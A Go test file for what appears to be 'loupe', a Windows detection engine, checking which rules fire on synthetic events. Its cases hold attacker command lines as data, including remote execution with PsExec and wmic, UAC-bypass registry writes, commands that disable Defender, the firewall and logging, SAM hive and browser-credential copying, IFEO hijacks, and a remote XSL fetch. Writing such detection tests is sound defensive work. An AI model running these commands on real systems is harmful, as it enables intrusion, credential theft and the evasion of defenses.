package detect

import (
	"strings"
	"testing"
	"time"

	"github.com/loupe-sec/loupe/internal/event"
)

const (
	secCh, secProv = "Security", "Microsoft-Windows-Security-Auditing"
	symCh, symProv = "Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon"
)

// child is a Sysmon process creation with a parent.
func child(parent, image, cmd string) *event.Event {
	return childOf(parent, parent, image, cmd)
}

func childOf(parent, parentCmd, image, cmd string) *event.Event {
	ev := proc(cmd)
	ev.Image, ev.ParentImage = image, parent
	ev.Raw = []byte(`{"Event":{"EventData":{"ParentCommandLine":"` + strings.ReplaceAll(parentCmd, `\`, `\\`) + `"}}}`)
	ev.DataPath = "Event.EventData"
	return ev
}

func logon(typ int, ip, user, data string) *event.Event {
	ev := winEvent(4624, secCh, secProv, data)
	ev.LogonType, ev.SrcIP, ev.TargetUser = typ, ip, user
	return ev
}

func TestWindowsRules(t *testing.T) {
	cases := []ruleCase{
		// lateral movement: commands
		{name: "wmic node", ev: proc(`wmic /node:10.0.0.5 process call create "cmd.exe /c whoami > c:\out.txt"`), rule: "loupe-remote-exec-command", what: "ran wmic to create a process on remote host 10.0.0.5", tech: "T1021"},
		{name: "sc remote create", ev: proc(`sc \\FS02 create upd binPath= "C:\Windows\Temp\u.exe"`), rule: "loupe-remote-exec-command", what: `controlled service "upd" on remote host FS02`},
		{name: "schtasks remote", ev: proc(`schtasks /create /s DC01 /tn Upd /tr c:\temp\x.exe /sc once /st 00:00`), rule: "loupe-remote-exec-command", what: "on remote host DC01"},
		{name: "invoke-command", ev: proc(`powershell Invoke-Command -ComputerName WS7 -ScriptBlock {whoami}`), rule: "loupe-remote-exec-command", what: "against host WS7"},
		{name: "winrs", ev: proc(`winrs -r:http://ws7:5985 cmd /c ipconfig`), rule: "loupe-remote-exec-command"},
		{name: "psexec", ev: proc(`PsExec64.exe \\10.0.0.9 -s cmd.exe`), rule: "loupe-remote-exec-command", what: "10.0.0.9"},
		{name: "unc file open", ev: proc(`"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE" "\\fs01\finance\Q1.xlsx"`), rule: ""},
		{name: "wmic local", ev: proc(`wmic process call create "notepad.exe"`), rule: ""},
		{name: "sc local query", ev: proc(`sc \\FS02 query wuauserv`), rule: ""},
		// lateral movement: process trees
		{name: "wmiprvse cmd", ev: child(`C:\Windows\System32\wbem\WmiPrvSE.exe`, `C:\Windows\System32\cmd.exe`, `cmd.exe /Q /c cd \ 1> \\127.0.0.1\ADMIN$\__1 2>&1`), rule: "loupe-wmi-remote-exec", what: "through WMI", tech: "T1047"},
		{name: "wmiprvse other", ev: child(`C:\Windows\System32\wbem\WmiPrvSE.exe`, `C:\Windows\System32\msiexec.exe`, ``), rule: "loupe-wmi-remote-exec"},
		{name: "wmiprvse werfault", ev: child(`C:\Windows\System32\wbem\WmiPrvSE.exe`, `C:\Windows\System32\WerFault.exe`, ``), rule: ""},
		{name: "wsmprovhost", ev: child(`C:\Windows\System32\wsmprovhost.exe`, `C:\Windows\System32\whoami.exe`, `"C:\Windows\system32\whoami.exe"`), rule: "loupe-winrm-remote-exec", tech: "T1021.006"},
		{name: "mmc dcom", ev: childOf(`C:\Windows\System32\mmc.exe`, `C:\Windows\System32\mmc.exe -Embedding`, `C:\Windows\System32\cmd.exe`, `cmd.exe /c calc`), rule: "loupe-dcom-remote-exec", tech: "T1021.003"},
		{name: "excel dcom", ev: childOf(`C:\Program Files\Microsoft Office\EXCEL.EXE`, `C:\Program Files\Microsoft Office\EXCEL.EXE /automation -Embedding`, `C:\Windows\System32\cmd.exe`, `cmd.exe /c calc`), rule: "loupe-dcom-remote-exec"},
		{name: "winword macro", ev: child(`C:\Program Files\Microsoft Office\WINWORD.EXE`, `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, `powershell -w hidden -c calc`), rule: "loupe-office-child", tech: "T1204.002"},
		{name: "explorer powershell", ev: child(`C:\Windows\explorer.exe`, `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, `powershell.exe`), rule: ""},
		// shares and logons
		{name: "5145 psexesvc", ev: winEvent(5145, secCh, secProv, `{"ShareName":"\\\\*\\ADMIN$","RelativeTargetName":"PSEXESVC.exe","AccessList":"%%4417 WriteData"}`), rule: "loupe-admin-share", what: `accessed \\*\ADMIN$\PSEXESVC.exe`, tech: "T1021.002"},
		{name: "5145 svcctl", ev: winEvent(5145, secCh, secProv, `{"ShareName":"\\\\*\\IPC$","RelativeTargetName":"svcctl"}`), rule: "loupe-admin-share", what: "remote service control"},
		{name: "5145 ipc lsarpc", ev: winEvent(5145, secCh, secProv, `{"ShareName":"\\\\*\\IPC$","RelativeTargetName":"lsarpc"}`), rule: ""},
		{name: "5140 c$", ev: winEvent(5140, secCh, secProv, `{"ShareName":"\\\\*\\C$"}`), rule: "loupe-admin-share"},
		{name: "5140 sysvol", ev: winEvent(5140, secCh, secProv, `{"ShareName":"\\\\*\\SYSVOL"}`), rule: ""},
		{name: "pth seclogo", ev: logon(9, "::1", "bob", `{"LogonProcessName":"seclogo","AuthenticationPackageName":"Negotiate"}`), rule: "loupe-pass-the-hash", tech: "T1550.002"},
		{name: "pth ntlm", ev: logon(3, "10.0.0.7", "admin", `{"LogonProcessName":"NtLmSsp ","AuthenticationPackageName":"NTLM","KeyLength":"0"}`), rule: "loupe-pass-the-hash", what: "NTLM"},
		{name: "ntlm with key", ev: logon(3, "10.0.0.7", "admin", `{"LogonProcessName":"NtLmSsp ","AuthenticationPackageName":"NTLM","KeyLength":"128"}`), rule: ""},
		{name: "kerberos network", ev: logon(3, "10.0.0.7", "admin", `{"LogonProcessName":"Kerberos","AuthenticationPackageName":"Kerberos","KeyLength":"0"}`), rule: ""},
		{name: "rdp", ev: logon(10, "203.0.113.45", "Administrator", `{}`), rule: "loupe-rdp-logon", what: `logged on over RDP as "Administrator"`, tech: "T1021.001"},
		{name: "rdp tunnel", ev: logon(10, "127.0.0.1", "Administrator", `{}`), rule: "loupe-rdp-logon", what: "loopback"},
		{name: "interactive", ev: logon(2, "127.0.0.1", "bob", `{}`), rule: ""},
		// privilege escalation
		{name: "uac ms-settings", ev: winEvent(13, symCh, symProv, `{"Image":"C:\\Windows\\System32\\reg.exe","TargetObject":"HKU\\S-1-5-21-1\\Software\\Classes\\ms-settings\\shell\\open\\command\\(Default)","Details":"C:\\Users\\bob\\x.exe"}`), rule: "loupe-uac-bypass-registry", tech: "T1548.002"},
		{name: "uac hklm classes", ev: winEvent(13, symCh, symProv, `{"TargetObject":"HKLM\\Software\\Classes\\exefile\\shell\\open\\command\\(Default)","Details":"\"%1\" %*"}`), rule: ""},
		{name: "uac reg add", ev: proc(`reg add HKCU\Software\Classes\mscfile\shell\open\command /d "cmd.exe" /f`), rule: "loupe-uac-bypass-registry", what: "bypass UAC"},
		{name: "fodhelper child", ev: child(`C:\Windows\System32\fodhelper.exe`, `C:\Windows\System32\cmd.exe`, `cmd.exe`), rule: "loupe-uac-bypass-process"},
		{name: "eventvwr mmc", ev: child(`C:\Windows\System32\eventvwr.exe`, `C:\Windows\System32\mmc.exe`, `"C:\Windows\system32\mmc.exe" "C:\Windows\system32\eventvwr.msc"`), rule: ""},
		{name: "pipe echo", ev: proc(`cmd.exe /c echo vzcxkb > \\.\pipe\vzcxkb`), rule: "loupe-pipe-impersonation", tech: "T1134.001"},
		{name: "pipe service", ev: winEvent(7045, "System", "Service Control Manager", `{"ServiceName":"vzcxkb","ImagePath":"cmd.exe /c echo vzcxkb > \\\\.\\pipe\\vzcxkb"}`), rule: "loupe-pipe-impersonation", what: "installed a service"},
		{name: "sc config binpath", ev: proc(`sc config upnphost binpath= "C:\Users\Public\svc.exe"`), rule: "loupe-service-hijack", what: `changed the binary of service "upnphost"`, tech: "T1574.011"},
		{name: "sc config start", ev: proc(`sc config wuauserv start= auto`), rule: ""},
		// defense evasion
		{name: "remote thread", ev: winEvent(8, symCh, symProv, `{"SourceImage":"C:\\Users\\bob\\a.exe","TargetImage":"C:\\Windows\\explorer.exe","StartFunction":"LoadLibraryA"}`), rule: "loupe-remote-thread", tech: "T1055"},
		{name: "remote thread csrss", ev: winEvent(8, symCh, symProv, `{"SourceImage":"C:\\Windows\\System32\\csrss.exe","TargetImage":"C:\\Windows\\explorer.exe"}`), rule: ""},
		{name: "injected access", ev: winEvent(10, symCh, symProv, `{"SourceImage":"C:\\Windows\\System32\\notepad.exe","TargetImage":"C:\\Windows\\explorer.exe","GrantedAccess":"0x1fffff","CallTrace":"ntdll.dll+1|UNKNOWN(00000000)"}`), rule: "loupe-injected-code-access"},
		{name: "access no unknown", ev: winEvent(10, symCh, symProv, `{"SourceImage":"C:\\Windows\\System32\\notepad.exe","TargetImage":"C:\\Windows\\explorer.exe","GrantedAccess":"0x1fffff","CallTrace":"ntdll.dll+1"}`), rule: ""},
		{name: "timestomp", ev: func() *event.Event {
			ev := winEvent(2, symCh, symProv, `{"TargetFilename":"C:\\Users\\bob\\AppData\\Local\\Temp\\b.exe","CreationUtcTime":"2015-01-01 00:00:00","PreviousCreationUtcTime":"2024-03-20 00:00:00"}`)
			ev.Image = `C:\Users\bob\AppData\Local\Temp\t.exe`
			return ev
		}(), rule: "loupe-timestomp", tech: "T1070.006"},
		{name: "timestomp chrome", ev: func() *event.Event {
			ev := winEvent(2, symCh, symProv, `{"TargetFilename":"C:\\Users\\bob\\AppData\\Local\\Google\\x.tmp"}`)
			ev.Image = `C:\Program Files\Google\Chrome\Application\chrome.exe`
			return ev
		}(), rule: ""},
		{name: "msbuild temp", ev: proc(`C:\Windows\Microsoft.NET\Framework\v4.0.30319\MSBuild.exe C:\Users\Public\x.csproj`), rule: "loupe-proxy-exec", tech: "T1218"},
		{name: "msbuild sln", ev: proc(`msbuild.exe C:\src\app\app.sln /p:Configuration=Release`), rule: ""},
		{name: "installutil", ev: proc(`InstallUtil.exe /logfile= /LogToConsole=false /U C:\Users\bob\a.dll`), rule: "loupe-proxy-exec"},
		{name: "cmstp", ev: proc(`cmstp.exe /ni /s C:\Users\bob\x.inf`), rule: "loupe-proxy-exec"},
		{name: "wmic xsl", ev: proc(`wmic os get /format:"http://198.51.100.7/a.xsl"`), rule: "loupe-proxy-exec", what: "XSL"},
		{name: "regsvr32 local sct", ev: proc(`regsvr32 /s /n /u /i:C:\Users\bob\f.sct scrobj.dll`), rule: "loupe-regsvr32-scriptlet"},
		{name: "rundll32 url.dll", ev: proc(`rundll32.exe url.dll,FileProtocolHandler calc.exe`), rule: "loupe-proxy-exec"},
		{name: "defender mppref", ev: proc(`powershell Set-MpPreference -DisableRealtimeMonitoring $true`), rule: "loupe-defender-tampering", tech: "T1562.001"},
		{name: "defender get", ev: proc(`powershell Get-MpPreference`), rule: ""},
		{name: "defender reg", ev: winEvent(13, symCh, symProv, `{"TargetObject":"HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\DisableAntiSpyware","Details":"DWORD (0x00000001)"}`), rule: "loupe-defender-tampering"},
		{name: "defender reg on", ev: winEvent(13, symCh, symProv, `{"TargetObject":"HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\DisableAntiSpyware","Details":"DWORD (0x00000000)"}`), rule: ""},
		{name: "defender 5001", ev: &event.Event{Host: "WS1", EventID: 5001, Channel: "Microsoft-Windows-Windows Defender/Operational", Provider: "Microsoft-Windows-Windows Defender"}, rule: "loupe-defender-tampering"},
		{name: "fltmc", ev: proc(`fltmc unload SysmonDrv`), rule: "loupe-logging-tampering", tech: "T1562.002"},
		{name: "fltmc filters", ev: proc(`fltmc filters`), rule: ""},
		{name: "auditpol", ev: proc(`auditpol /set /category:"Logon/Logoff" /success:disable /failure:disable`), rule: "loupe-logging-tampering"},
		{name: "4719 removed", ev: winEvent(4719, secCh, secProv, `{"SubcategoryGuid":"{0CCE9215}","AuditPolicyChanges":"%%8448, %%8450"}`), rule: "loupe-logging-tampering"},
		{name: "4719 added", ev: winEvent(4719, secCh, secProv, `{"SubcategoryGuid":"{0CCE9215}","AuditPolicyChanges":"%%8449"}`), rule: ""},
		{name: "firewall off", ev: proc(`netsh advfirewall set allprofiles state off`), rule: "loupe-firewall-tampering", tech: "T1562.004"},
		{name: "firewall show", ev: proc(`netsh advfirewall show allprofiles`), rule: ""},
		{name: "masquerade", ev: child(`C:\Windows\explorer.exe`, `C:\Users\Public\svchost.exe`, `C:\Users\Public\svchost.exe`), rule: "loupe-masquerading", tech: "T1036.005"},
		{name: "attrib hide", ev: proc(`attrib +s +h C:\Users\Public\x.exe`), rule: "loupe-hidden-file"},
		// credential access
		{name: "dcsync", ev: func() *event.Event {
			ev := winEvent(4662, secCh, secProv, `{"SubjectUserName":"bob","Properties":"%%7688 {1131f6ad-9c07-11d1-f79f-00c04fc2dcd2} {19195a5b-6da0-11d0-afd3-00c04fd930c9}"}`)
			ev.User = "bob"
			return ev
		}(), rule: "loupe-dcsync", tech: "T1003.006"},
		{name: "dcsync by dc", ev: func() *event.Event {
			ev := winEvent(4662, secCh, secProv, `{"Properties":"{1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}"}`)
			ev.User = "DC02$"
			return ev
		}(), rule: ""},
		{name: "asrep", ev: winEvent(4768, secCh, secProv, `{"TargetUserName":"svc_sql","PreAuthType":"0","Status":"0x0","TicketEncryptionType":"0x17"}`), rule: "loupe-asrep-roasting", tech: "T1558.004"},
		{name: "asrep preauth", ev: winEvent(4768, secCh, secProv, `{"TargetUserName":"bob","PreAuthType":"2","Status":"0x0"}`), rule: ""},
		{name: "esentutl sam", ev: proc(`esentutl.exe /y /vss C:\Windows\System32\config\SAM /d C:\temp\sam`), rule: "loupe-hive-copy", tech: "T1003.002"},
		{name: "vaultcmd", ev: proc(`vaultcmd /listcreds:"Windows Credentials" /all`), rule: "loupe-credential-store", tech: "T1555"},
		{name: "browser store", ev: proc(`cmd /c copy "C:\Users\bob\AppData\Local\Google\Chrome\User Data\Default\Login Data" C:\temp\ld`), rule: "loupe-credential-store"},
		// persistence and c2
		{name: "wmi consumer", ev: winEvent(20, symCh, symProv, `{"Operation":"Created","Name":"Updater","Destination":"powershell.exe -enc AAAA"}`), rule: "loupe-wmi-subscription", tech: "T1546.003", prio: 4, check: true},
		{name: "wmi consumer deleted", ev: winEvent(20, symCh, symProv, `{"Operation":"Deleted","Name":"Updater"}`), rule: ""},
		{name: "portproxy", ev: proc(`netsh interface portproxy add v4tov4 listenport=4444 connectaddress=10.0.0.5 connectport=3389`), rule: "loupe-port-proxy", tech: "T1090"},
		{name: "portproxy show", ev: proc(`netsh interface portproxy show all`), rule: ""},
		{name: "sethc ifeo", ev: proc(`reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe" /v Debugger /t REG_SZ /d "C:\windows\system32\cmd.exe"`), rule: "loupe-ifeo-hijack", tech: "T1546.008"},
		{name: "ifeo registry", ev: winEvent(13, symCh, symProv, `{"TargetObject":"HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\utilman.exe\\Debugger","Details":"cmd.exe"}`), rule: "loupe-ifeo-hijack"},
		{name: "winlogon userinit", ev: winEvent(13, symCh, symProv, `{"Image":"C:\\Windows\\regedit.exe","TargetObject":"HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\Userinit","Details":"C:\\Windows\\system32\\userinit.exe,C:\\Users\\Public\\u.exe"}`), rule: "loupe-autostart-registry", tech: "T1547"},
		{name: "hklm clsid", ev: winEvent(13, symCh, symProv, `{"Image":"C:\\Windows\\regedit.exe","TargetObject":"HKLM\\SOFTWARE\\Classes\\CLSID\\{X}\\InprocServer32\\(Default)","Details":"C:\\Windows\\x.dll"}`), rule: ""},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			ds := collect(New(Options{}), c.ev)
			if c.rule == "" {
				for _, d := range ds {
					t.Errorf("unexpected detection %s: %s", d.Rule.ID, d.What)
				}
				return
			}
			var got *Detection
			var ids []string
			for i := range ds {
				ids = append(ids, ds[i].Rule.ID+": "+ds[i].What)
				if ds[i].Rule.ID == c.rule {
					got = &ds[i]
				}
			}
			if got == nil {
				t.Fatalf("want a %s detection, got %v", c.rule, ids)
			}
			if !strings.Contains(got.What, c.what) {
				t.Errorf("What = %q, want it to contain %q", got.What, c.what)
			}
			if c.tech != "" && got.Techniques[0].ID != c.tech {
				t.Errorf("techniques = %v, want %s first", got.Techniques, c.tech)
			}
			if c.check && got.Priority != c.prio {
				t.Errorf("priority = %s, want %s", got.Priority, c.prio)
			}
			if got.Rule.Author != "loupe" || got.TacticID == "" {
				t.Errorf("incomplete attribution: %+v", got.Rule)
			}
		})
	}
}

func timed(ev *event.Event, at time.Duration) *event.Event {
	ev.Time = t0.Add(at)
	return ev
}

func TestReconBurst(t *testing.T) {
	e := New(Options{})
	ds := collect(e,
		timed(proc("whoami /all"), 0),
		timed(proc("whoami /all"), time.Minute),
		timed(proc("ipconfig /all"), 2*time.Minute),
		timed(proc("net group \"domain admins\" /domain"), 3*time.Minute),
		timed(proc("nltest /dclist:corp"), 4*time.Minute),
	)
	m := byRule(ds)
	if len(m["loupe-recon-burst"]) != 1 {
		t.Fatalf("want one burst, got %s", describe(ds))
	}
	d := m["loupe-recon-burst"][0]
	if d.Tactic != "Discovery" || d.Count != 4 || len(d.Related) != 2 || !strings.Contains(d.What, "3 distinct discovery commands within 3 minutes") {
		t.Errorf("burst = %s / %d / %d related / %q", d.Tactic, d.Count, len(d.Related), d.What)
	}
	// Spread out beyond the window, or a single command, stays quiet.
	quiet := collect(New(Options{}),
		timed(proc("ipconfig /all"), 0),
		timed(proc("whoami"), 20*time.Minute),
		timed(proc("systeminfo"), 40*time.Minute),
	)
	if len(quiet) != 0 {
		t.Errorf("spread commands: %s", describe(quiet))
	}
	// A heavy tool alone is enough.
	if ds := collect(New(Options{}), proc(`AdFind.exe -f "(objectcategory=person)"`)); len(ds) != 1 || ds[0].Rule.ID != "loupe-recon-burst" {
		t.Errorf("adfind: %s", describe(ds))
	}
}

func TestReconBurstBounded(t *testing.T) {
	e := New(Options{MaxTracked: 4})
	for i := range 50 {
		ev := proc("whoami")
		ev.User = strings.Repeat("u", i+1)
		e.Observe(ev, func(Detection) {})
	}
	if n := e.burst.order.Len(); n > 4 || len(e.burst.index) != n {
		t.Errorf("tracked %d/%d states", n, len(e.burst.index))
	}
}

func tgs(svc, enc string, at time.Duration) *event.Event {
	ev := winEvent(4769, secCh, secProv, `{"TargetUserName":"bob@CORP.LOCAL","ServiceName":"`+svc+`","TicketEncryptionType":"`+enc+`","Status":"0x0"}`)
	ev.TargetUser = "bob@CORP.LOCAL"
	return timed(ev, at)
}

func TestKerberoasting(t *testing.T) {
	ds := collect(New(Options{}), tgs("svc_sql", "0x17", 0), tgs("svc_sql", "0x17", time.Second), tgs("svc_web", "0x17", 2*time.Second))
	if len(ds) != 1 || ds[0].Rule.ID != "loupe-kerberoasting" || !strings.Contains(ds[0].What, `"svc_sql", "svc_web"`) {
		t.Fatalf("got %s", describe(ds))
	}
	for name, evs := range map[string][]*event.Event{
		"aes":      {tgs("svc_sql", "0x12", 0), tgs("svc_web", "0x12", time.Second)},
		"machines": {tgs("WS1$", "0x17", 0), tgs("WS2$", "0x17", time.Second)},
		"one":      {tgs("svc_sql", "0x17", 0), tgs("svc_sql", "0x17", time.Second)},
		"window":   {tgs("svc_sql", "0x17", 0), tgs("svc_web", "0x17", time.Hour)},
	} {
		if ds := collect(New(Options{}), evs...); len(ds) != 0 {
			t.Errorf("%s: %s", name, describe(ds))
		}
	}
}
